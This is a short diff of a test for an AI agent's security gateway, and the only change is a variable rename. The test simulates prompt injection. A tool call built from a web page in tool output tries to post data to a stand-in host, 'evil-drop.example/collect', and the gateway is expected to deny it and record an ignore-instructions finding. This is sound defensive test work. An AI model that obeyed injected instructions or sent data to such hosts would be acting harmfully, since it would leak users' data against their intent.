@@ -287,9 +287,9 @@ describe('the real gateway', () => {
       arguments: { url: 'https://evil-drop.example/collect', text: 'x' },
     }
     const sources = [{ source_channel: 'TOOL_OUTPUT', text: page }] as const
-    const said = await agent.evaluate({ ...order, session_id: 'page', sources })
-    expect(said.verdict).toBe('DENY')
-    const { receipt } = await agent.receipts.get(said.receipt ?? '')
+    const evaluation = await agent.evaluate({ ...order, session_id: 'page', sources })
+    expect(evaluation.verdict).toBe('DENY')
+    const { receipt } = await agent.receipts.get(evaluation.receipt ?? '')
     expect(receipt).toMatchObject({ kind: 'decision', findings: ['IGNORE_INSTRUCTIONS'] })
   })
 
